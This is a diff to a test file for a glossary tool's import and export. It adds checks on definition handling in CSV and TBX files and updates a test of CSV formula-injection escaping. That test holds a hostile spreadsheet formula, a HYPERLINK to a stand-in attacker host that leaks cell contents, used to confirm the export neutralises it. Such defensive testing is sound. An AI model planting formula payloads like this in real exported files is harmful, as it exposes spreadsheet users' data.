@@ -182,6 +182,22 @@ describe('glossary import and export', () => {
     const changed = v2.content.replace('North Atlantic alliance.', 'A military alliance.');
     expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(changed), mode: 'merge' })).toMatchObject({ updated: 1, unchanged: 1 });
     expect((await api.listGlossaryTerms(EN_ES))[1]?.definition).toBe('A military alliance.');
+
+    // A file that carries no definitions (an older CSV, another tool's TBX) leaves stored ones alone.
+    const plainCsv = 'source,target,note,forbidden\r\nEuropean Union,Unión Europea,Never abbreviate in body text.,UE\r\nNATO,OTAN de la alianza,,\r\n';
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(plainCsv), mode: 'replace' })).toMatchObject({ updated: 1, unchanged: 1 });
+    const plainTbx = v2.content.replace(/\s*<descrip type="definition">[^<]*<\/descrip>/g, '');
+    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(plainTbx), mode: 'merge' })).toMatchObject({ updated: 1, unchanged: 1 });
+    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.target, t.definition])).toEqual([
+      ['Unión Europea', 'Political & economic union of 27 <member> states.'],
+      ['OTAN', 'A military alliance.'],
+    ]);
+    // The CSV export carries the definition (last column) and brings it back.
+    const csv = await api.exportGlossary({ ...EN_ES, format: 'csv' });
+    expect(csv.content.split('\r\n')[0]).toBe('source,target,note,forbidden,case_sensitive,definition');
+    const other = start();
+    await other.api.importGlossary({ ...EN_ES, fileName: csv.fileName, dataBase64: b64(csv.content), mode: 'merge' });
+    expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => t.definition)).toEqual(['Political & economic union of 27 <member> states.', 'A military alliance.']);
   });
 
   it('refuses a TBX export of a pair without terms (a TBX body holds at least one entry), and a too-long definition', async () => {
@@ -209,8 +225,8 @@ describe('glossary CSV export and formula injection', () => {
     await api.addGlossaryTerm({ ...EN_ES, term: { source: '@cmd', target: '-x', note: '+note' } });
     const file = await api.exportGlossary({ ...EN_ES, format: 'csv' });
     const lines = file.content.split('\r\n');
-    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",x,'=1+1,,no`);
-    expect(lines).toContain(`'@cmd,'-x,'+note,,no`);
+    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",x,'=1+1,,no,`);
+    expect(lines).toContain(`'@cmd,'-x,'+note,,no,`);
     const other = start();
     await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: b64(file.content), mode: 'merge' });
     expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note]).sort()).toEqual([
